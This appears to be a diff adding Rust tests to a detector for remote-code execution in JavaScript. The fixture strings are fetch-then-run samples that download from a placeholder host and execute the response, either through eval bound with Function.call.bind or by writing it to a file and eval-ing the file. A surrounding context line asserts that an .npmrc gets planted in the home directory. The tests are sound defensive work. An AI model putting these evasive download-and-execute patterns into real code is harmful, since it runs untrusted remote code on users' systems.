@@ -518,3 +518,38 @@ fn a_folder_that_is_made_for_the_call_is_nobodys_settings() {
     assert!(plants("os.homedir()", ".npmrc"));
     assert!(plants(fresh, "../../home/me/.npmrc"));
 }
+
+#[test]
+fn what_a_bound_call_calls_is_what_it_is_bound_to() {
+    let runs = |bound: &str, called: &str| {
+        let code = format!(
+            "const f = {bound}; require('https').get('https://a.invalid/b', (r) => {{
+                let d = ''; r.on('data', (c) => d += c); r.on('end', () => {called}) }})"
+        );
+        testing::remote_code(testing::script(&code)).is_some()
+    };
+    assert!(runs("Function.call.bind(eval)", "f(null, d)"));
+    assert!(runs(
+        "Function.prototype.call.bind(Function)",
+        "f(null, d)()"
+    ));
+    assert!(!runs(
+        "Function.call.bind(Function.prototype[Symbol.hasInstance])",
+        "f(Object, d)"
+    ));
+    assert!(!runs("Function.call.bind(String.prototype.trim)", "f(d)"));
+}
+
+#[test]
+fn files_whose_names_are_objects_are_not_one_file() {
+    let runs = |written: &str, run: &str| {
+        let code = format!(
+            "const fs = require('fs'); require('https').get('https://a.invalid/b', (r) => {{
+                let d = ''; r.on('data', (c) => d += c);
+                r.on('end', () => {{ fs.writeFileSync({written}, d); eval(String(fs.readFileSync({run}))) }}) }})"
+        );
+        testing::remote_code(testing::script(&code)).is_some()
+    };
+    assert!(runs("'b.js'", "'b.js'"));
+    assert!(!runs("String({ a: 1 })", "String({ b: 2 })"));
+}
